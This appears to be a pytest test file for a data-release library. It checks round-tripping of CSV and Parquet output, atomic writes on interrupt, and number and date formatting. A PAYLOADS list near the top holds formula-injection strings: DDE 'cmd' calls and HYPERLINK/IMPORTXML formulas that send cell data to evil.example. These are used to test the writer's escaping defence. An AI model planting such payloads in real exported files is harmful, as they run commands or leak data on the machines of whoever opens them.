"""Rows to files: everything comes back, nothing half-written stays, no cell runs."""

from __future__ import annotations

import csv
import re
import signal
import subprocess
import sys
import textwrap
import time
from dataclasses import replace
from datetime import date, datetime, timedelta
from datetime import time as clock
from fractions import Fraction
from pathlib import Path

import duckdb
import numpy as np
import pyarrow.parquet as pq
import pytest

from kit.releases.builders import EVERY_TYPE, SMALL, codes_of, release
from understudy.errors import Refused
from understudy.releases import sampling as module
from understudy.releases import write_rows
from understudy.releases.output.frames import decoding
from understudy.schema import (
    Boolean,
    Categorical,
    Date,
    Datetime,
    Integer,
    Real,
    Schema,
    Time,
)
from understudy.tables import Table, open_table

OPENERS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
BODIES = [
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
    "SUM(1+1)*cmd|' /C notepad'!A0",
    "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "1+1",
    "A1",
    "@SUM(A1:A2)",
    "2+5+cmd|' /C calc'!A0",
    "\"quoted\"",
    " spaced",
]  # fmt: skip
PAYLOADS = [opener + body for opener in OPENERS for body in BODIES]


def names(folder: Path) -> list[str]:
    return [path.name for path in folder.iterdir()]


def rows_of(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def read_codes(path: Path, schema: Schema) -> dict[str, list[int]]:
    """The codes of a CSV file's cells, by the codec's own rule for text."""
    header, *rows = rows_of(path)
    return {
        name: [schema.codecs[name].code(row[header.index(name)]) for row in rows]
        for name in schema
    }


def test_a_csv_file_holds_the_codes_it_was_written_from(tmp_path):
    codes = codes_of(EVERY_TYPE, 3000)
    write_rows(EVERY_TYPE, codes, tmp_path / "a.csv", np.random.default_rng(0))
    assert rows_of(tmp_path / "a.csv")[0] == list(EVERY_TYPE)
    back = read_codes(tmp_path / "a.csv", EVERY_TYPE)
    for name in EVERY_TYPE:
        assert back[name] == codes[name].tolist(), name


def test_a_parquet_file_holds_the_same_rows_in_their_types(tmp_path):
    codes = codes_of(EVERY_TYPE, 3000)
    write_rows(EVERY_TYPE, codes, tmp_path / "a.parquet", np.random.default_rng(0))
    back = pq.read_table(tmp_path / "a.parquet")
    assert back.column_names == list(EVERY_TYPE)
    kinds = "string, bool, int64, double, date32[day], timestamp[us], timestamp[us, tz=Europe/Berlin], time64[us]"
    assert ", ".join(map(str, back.schema.types)) == kinds
    for name in EVERY_TYPE:
        codec = EVERY_TYPE.codecs[name]
        blank = {
            codec.missing_code(j)
            for j, text in enumerate(codec.column.missing)
            if text in {"?", "NA"}
        }  # no value of its type
        expected = [
            codec.empty if code in blank else code for code in codes[name].tolist()
        ]
        assert [codec.code(value) for value in back[name].to_pylist()] == expected, name


def test_missing_cells_come_back_as_they_are_spelled(tmp_path):
    columns = (
        Integer(name="age", min=0, max=3, missing=("-7", "refused")),
        Boolean(name="ok", true=("Ja",), false=("Nein",), missing=("?",)),
        Categorical(name="sex", values=("F",), other="andere", missing=("-9",)),
    )
    codes = {"age": np.arange(7) % 7, "ok": np.arange(7) % 4, "sex": np.arange(7) % 4}
    write_rows(
        Schema(columns=columns), codes, tmp_path / "a.csv", np.random.default_rng(0)
    )
    assert rows_of(tmp_path / "a.csv")[1:] == [
        ["0", "Nein", "F"],
        ["1", "Ja", "andere"],
        ["2", "", ""],
        ["3", "?", "-9"],
        ["", "Nein", "F"],
        ["-7", "Ja", "andere"],
        ["refused", "", ""],
    ]


def test_decimals_are_those_declared_and_those_of_floats_as_short_as_they_can_be(
    tmp_path,
):
    column = Real(
        name="x",
        min=0,
        max=1,
        step=Fraction(1, 100),
        bins=tuple(range(102)),
        nullable=False,
    )
    schema = Schema(columns=(column, replace(column, name="y", dtype="float64")))
    codes = {"x": np.arange(101), "y": np.arange(101)}
    write_rows(schema, codes, tmp_path / "a.csv", np.random.default_rng(0))
    right = [[f"{i / 100:.2f}", str(i / 100)] for i in range(101)]
    assert [list(row) for row in rows_of(tmp_path / "a.csv")[1:]] == right


def test_instants_name_their_offset_through_a_change_of_clocks(tmp_path):
    from datetime import UTC, datetime, timedelta

    start = datetime(2024, 10, 27, 0, tzinfo=UTC)
    column = Datetime(
        name="t",
        min=start,
        max=start + timedelta(hours=2),
        zone="Europe/Berlin",
        resolution=timedelta(minutes=30),
        nullable=False,
    )
    schema = Schema(columns=(column,))
    write_rows(
        schema, {"t": np.arange(5)}, tmp_path / "a.csv", np.random.default_rng(0)
    )
    assert [row[0] for row in rows_of(tmp_path / "a.csv")[1:]] == [
        "2024-10-27 02:00:00+02:00",
        "2024-10-27 02:30:00+02:00",
        "2024-10-27 02:00:00+01:00",
        "2024-10-27 02:30:00+01:00",
        "2024-10-27 03:00:00+01:00",
    ]


# -- formulas
# -----------------------------------------------------------------------------------------------------------------


def test_there_are_a_hundred_payloads():
    assert len(set(PAYLOADS)) >= 100


def test_learned_labels_never_start_a_formula(tmp_path):
    schema = Schema(
        columns=(
            Categorical(
                name="x", values=tuple(PAYLOADS), learned=("values",), nullable=False
            ),
        )
    )
    write_rows(
        schema,
        {"x": np.arange(len(PAYLOADS))},
        tmp_path / "a.csv",
        np.random.default_rng(0),
    )
    cells = [row[0] for row in rows_of(tmp_path / "a.csv")[1:]]
    assert len(cells) == len(PAYLOADS)
    for cell, payload in zip(cells, PAYLOADS, strict=True):
        assert cell in (payload, "'" + payload)
        assert not cell.startswith(tuple(OPENERS)) or payload in ("+1+1", "-1+1"), (
            payload
        )
    assert all(
        cell == "'" + payload for cell, payload in zip(cells, PAYLOADS, strict=True)
    )


def test_headers_never_start_a_formula(tmp_path):
    schema = Schema(
        columns=tuple(
            Integer(name=name, min=0, max=1, nullable=False) for name in PAYLOADS
        )
    )
    write_rows(
        schema,
        {name: np.array([1]) for name in PAYLOADS},
        tmp_path / "a.csv",
        np.random.default_rng(0),
    )
    header, row = rows_of(tmp_path / "a.csv")
    assert header == ["'" + name for name in PAYLOADS]
    assert row == ["1"] * len(PAYLOADS)


def test_numbers_are_left_alone_and_declared_labels_are_not(tmp_path):
    """Declared ones were: who drafts a schema from the rows declares what is in them."""
    schema = Schema(
        columns=(
            Integer(name="i", min=-2, max=1, nullable=False),
            Real(name="r", min=-2, max=1, step=1, nullable=False),
            Categorical(
                name="declared", values=("-1", "=A1", "+x", "@y"), nullable=False
            ),
            Categorical(
                name="learned",
                values=("-1", "+2.5e3", "-.5", "x"),
                learned=("values",),
                nullable=False,
            ),
        )
    )
    write_rows(
        schema,
        {name: np.arange(4) for name in schema},
        tmp_path / "a.csv",
        np.random.default_rng(0),
    )
    columns = list(zip(*rows_of(tmp_path / "a.csv")[1:], strict=True))
    assert columns == [
        ("-2", "-1", "0", "1"),
        ("-2", "-1", "0", "1"),
        ("-1", "'=A1", "'+x", "'@y"),
        ("-1", "+2.5e3", "-.5", "x"),
    ]


TEXTS = Schema(
    columns=(
        Integer(name="=i", min=-9, max=9, missing=("=i", "-7")),
        Real(name="r", min=0, max=1, step=Fraction(1, 100), missing=("@r",)),
        Date(name="d", min=date(2024, 1, 1), max=date(2024, 1, 9), missing=("+d",)),
        Time(name="t", missing=("-t",)),
        Datetime(
            name="m",
            min=datetime(2024, 1, 1),
            max=datetime(2024, 1, 2),
            zone="Europe/Berlin",
            missing=("=m",),
        ),
        Boolean(name="b", true=("=yes",), false=("-no",), missing=("+b",)),
        Categorical(name="c", values=("=c", "x"), other="@other", missing=("=none",)),
    )
)
"""Every way in which a text of the schema gets into a cell."""


def written_texts(path: Path, **options: bool) -> set[str]:
    codes = {name: np.arange(codec.size) for name, codec in TEXTS.codecs.items()}
    most = max(len(column) for column in codes.values())
    write_rows(
        TEXTS,
        {n: np.resize(c, most) for n, c in codes.items()},
        path,
        np.random.default_rng(0),
        **options,
    )
    return {cell for row in rows_of(path) for cell in row}


def test_no_text_starts_a_formula_whatever_way_it_came(tmp_path):
    """Missing codes of numbers and dates, and values that a draft declared, were
    written as they are.
    """
    found = written_texts(tmp_path / "a.csv")
    words = {"=i", "@r", "+d", "-t", "=m", "=yes", "-no", "+b", "=c", "@other", "=none"}
    assert {"'" + word for word in words} <= found
    assert not [
        cell
        for cell in found
        if cell.startswith(tuple(OPENERS)) and not re.fullmatch(r"-\d+", cell)
    ]
    assert "-7" in found


def test_whoever_opts_out_gets_texts_as_they_are(tmp_path):
    found = written_texts(tmp_path / "a.csv", guard_formulas=False)
    assert {
        "=i",
        "@r",
        "+d",
        "-t",
        "=m",
        "=yes",
        "-no",
        "+b",
        "=c",
        "@other",
        "=none",
    } <= found
    assert not [cell for cell in found if cell.startswith("'")]


def test_parquet_keeps_labels_as_they_are(tmp_path):
    schema = Schema(
        columns=(
            Categorical(
                name="=x", values=("=A1",), learned=("values",), nullable=False
            ),
        )
    )
    write_rows(
        schema, {"=x": np.array([0])}, tmp_path / "a.parquet", np.random.default_rng(0)
    )
    back = duckdb.sql(f"SELECT * FROM '{tmp_path}/a.parquet'")
    assert back.columns == ["=x"]
    assert back.fetchall() == [("=A1",)]


# -- files
# --------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", ["csv", "parquet"])
def test_many_chunks_make_one_file_with_the_rows_of_a_frame(
    tmp_path, monkeypatch, suffix
):
    monkeypatch.setattr(decoding, "DECODE_CHUNK_ROWS", 100)
    path = tmp_path / f"a.{suffix}"
    assert release(EVERY_TYPE).write(path, 1050, seed=5) == 1050
    frame = release(EVERY_TYPE).sample(1050, seed=5, kind="duckdb")
    reader = f"read_csv('{path}', all_varchar=true)" if suffix == "csv" else f"'{path}'"
    assert duckdb.sql(f"SELECT count(*) FROM {reader}").fetchall() == [(1050,)]
    written = duckdb.sql(
        f"SELECT CAST(weight AS DOUBLE), CAST(seen AS TIMESTAMP) FROM {reader}"
    ).fetchall()
    assert written == frame.project("weight, seen").fetchall()
    assert names(tmp_path) == [path.name]


def test_many_batches_are_sampled_alike_for_frames_and_files(tmp_path, monkeypatch):
    monkeypatch.setattr(module, "SAMPLE_BATCH_ROWS", 300)
    monkeypatch.setattr(decoding, "DECODE_CHUNK_ROWS", 100)
    for given in ({}, {"sex": "F"}):
        assert release().write(tmp_path / "a.csv", 1050, seed=5, given=given) == 1050
        frame = release().sample(1050, seed=5, given=given, kind="pandas")
        assert len(frame) == 1050
        assert [row[0] for row in rows_of(tmp_path / "a.csv")[1:]] == frame[
            "sex"
        ].tolist()


@pytest.mark.parametrize("suffix", ["csv", "parquet"])
def test_no_rows_make_a_file_with_a_header(tmp_path, suffix):
    path = tmp_path / f"a.{suffix}"
    assert release().write(path, 0) == 0
    assert duckdb.sql(f"SELECT * FROM '{path}'").columns == list(SMALL)
    assert duckdb.sql(f"SELECT count(*) FROM '{path}'").fetchall() == [(0,)]


def test_names_that_differ_only_in_case(tmp_path):
    schema = Schema(
        columns=tuple(
            Integer(name=name, min=0, max=1, nullable=False) for name in ("a", "A")
        )
    )
    codes = {"a": np.array([0]), "A": np.array([1])}
    write_rows(schema, codes, tmp_path / "a.csv", np.random.default_rng(0))
    assert rows_of(tmp_path / "a.csv") == [["a", "A"], ["0", "1"]]
    with pytest.raises(Refused, match="only in case"):
        write_rows(schema, codes, tmp_path / "a.parquet", np.random.default_rng(0))


def test_other_formats_are_refused(tmp_path):
    with pytest.raises(Refused, match=r"\.csv or \.parquet"):
        release().write(tmp_path / "a.xlsx")
    assert names(tmp_path) == []


def test_a_quote_in_a_path_is_only_a_quote(tmp_path):
    folder = tmp_path / "it's; DROP"
    folder.mkdir()
    for suffix in ("csv", "parquet"):
        release().write(folder / f"o'x.{suffix}", 3)
    assert sorted(names(folder)) == ["o'x.csv", "o'x.parquet"]


def test_an_interrupt_leaves_the_old_file_and_nothing_else(tmp_path):
    """A real Ctrl-C into a real process that is in the middle of writing."""
    path = tmp_path / "a.csv"
    path.write_text("old")
    program = textwrap.dedent(f"""
        import signal
        signal.signal(signal.SIGINT, signal.default_int_handler)  # a shell's background jobs ignore it
        import numpy as np
        from understudy.releases import write_rows
        from understudy.schema import Integer, Schema
        schema = Schema(columns=tuple(Integer(name=f"c{{i}}", min=0, max=10**6) for i in range(12)))
        codes = {{name: np.zeros(20_000_000, np.uint8) for name in schema}}
        print("ready", flush=True)
        write_rows(schema, codes, {str(path)!r}, np.random.default_rng(0))
    """)
    process = subprocess.Popen(
        [sys.executable, "-c", program],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert process.stdout.readline() == "ready\n"
    deadline = time.monotonic() + 300  # a safety net, on a machine however busy
    while time.monotonic() < deadline and not any(
        p.stat().st_size for p in tmp_path.glob(".*/draft")
    ):
        time.sleep(0.05)
    assert any(tmp_path.glob(".*.partial"))
    process.send_signal(signal.SIGINT)
    _, errors = process.communicate(timeout=300)
    assert "KeyboardInterrupt" in errors
    assert path.read_text() == "old"
    assert names(tmp_path) == ["a.csv"]


@pytest.mark.slow
def test_memory_does_not_grow_with_the_number_of_rows(tmp_path):
    """In a process of its own, so that the peak is that of writing and of nothing
    before it.
    """
    program = textwrap.dedent("""
        import resource, sys
        from understudy.models import ProductModel
        from understudy.releases import Guarantee, Release
        from understudy.schema import Integer, Schema
        schema = Schema(columns=tuple(Integer(name=f"c{i}", min=0, max=10**6) for i in range(10)))
        release = Release(guarantee=Guarantee.without_data(), schema=schema, model=ProductModel.uniform(schema, 1.0))
        release.write(sys.argv[1], int(sys.argv[2]), seed=0)
        print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, flush=True)
    """)
    for suffix in ("csv", "parquet"):
        peaks = [
            int(
                subprocess.run(
                    [sys.executable, "-c", program, tmp_path / f"a.{suffix}", rows],
                    capture_output=True,
                    check=True,
                ).stdout
            )
            for rows in ("5000000", "15000000")
        ]
        assert peaks[1] < peaks[0] * 1.3, (
            peaks
        )  # the rows as 64-bit values would be 1.2 GB


SPELLED = Schema(
    columns=(
        Boolean(name="asked", true=("Yes",), false=("No",), nullable=False),
        Date(name="born", min=date(2024, 1, 5), max=date(2024, 1, 5), format="%d.%m.%Y", nullable=False),
        Time(name="woke", min=clock(9, 15), max=clock(9, 15), resolution=timedelta(minutes=1), format="%H:%M", nullable=False),
        Datetime(name="seen", min=datetime(2024, 1, 5, 10), max=datetime(2024, 1, 5, 10), zone="UTC", format="%Y-%m-%dT%H:%M:%SZ", nullable=False),
        Real(name="pay", min=Fraction(-2469, 2), max=Fraction(-2469, 2), decimal=",", thousands=".", nullable=False),
        Real(name="dose", min=Fraction(1, 2), max=Fraction(1, 2), trailing_zeros=False, nullable=False),
        Real(name="fine", min=Fraction(1, 2), max=Fraction(1, 2), learned=("type",), trailing_zeros=True, nullable=False),
        Real(name="size", min=Fraction(7), max=Fraction(7), whole_point=False, nullable=False),
        Integer(name="arm", min=2, max=2, whole_point=True, nullable=False),
        Integer(name="sold", min=1234567, max=1234567, thousands="'", nullable=False, missing=("=gone",)),
    )
)  # fmt: skip


def test_cells_are_spelled_as_the_schema_says(tmp_path):
    codes = {name: np.array([0, 0]) for name in SPELLED}
    codes["asked"] = np.array([0, 1])
    codes["sold"] = np.array([0, 1])
    write_rows(SPELLED, codes, tmp_path / "t.csv", np.random.default_rng(0))
    rest = [
        "05.01.2024",
        "09:15",
        "2024-01-05T10:00:00Z",
        "-1.234,50",
        "0.5",
        "0.50",
        "7",
        "2.0",
    ]
    assert rows_of(tmp_path / "t.csv") == [
        list(SPELLED),
        ["No", *rest, "1'234'567"],
        ["Yes", *rest, "'=gone"],
    ]


def test_small_numbers_are_written_without_an_exponent(tmp_path):
    small = Real(name="x", min=Fraction(0), max=Fraction(2, 10**5), step=Fraction(1, 10**6), trailing_zeros=False, nullable=False)  # fmt: skip
    codes = {"x": np.array([0, 5, 20])}
    write_rows(
        Schema(columns=(small,)), codes, tmp_path / "t.csv", np.random.default_rng(0)
    )
    assert rows_of(tmp_path / "t.csv") == [["x"], ["0.0"], ["0.000005"], ["0.00002"]]


def test_a_spelled_file_is_read_as_the_same_rows(tmp_path):
    codes = {name: np.zeros(3, np.int64) for name in SPELLED}
    write_rows(SPELLED, codes, tmp_path / "t.csv", np.random.default_rng(0))
    with open_table(tmp_path / "t.csv") as source:
        counts = Table(source, SPELLED).counts([(name,) for name in SPELLED])
    assert [one[0] for one in counts] == [3] * len(SPELLED)
